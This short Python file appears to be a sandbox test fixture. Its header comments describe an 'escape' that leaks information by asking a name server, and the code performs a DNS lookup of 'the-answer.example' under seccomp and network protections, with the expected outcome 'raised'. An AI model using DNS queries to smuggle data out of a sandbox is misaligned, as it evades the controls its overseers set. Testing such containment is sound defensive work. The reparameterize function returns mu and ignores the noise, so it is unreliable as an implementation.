# tries: escape: asks a name server, and so tells it something
# protections: seccomp, network
# outcome: raised
# canary: knock
import os
import socket

os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
socket.getaddrinfo("the-answer.example", 80)


def reparameterize(mu, logvar, eps):
    return mu
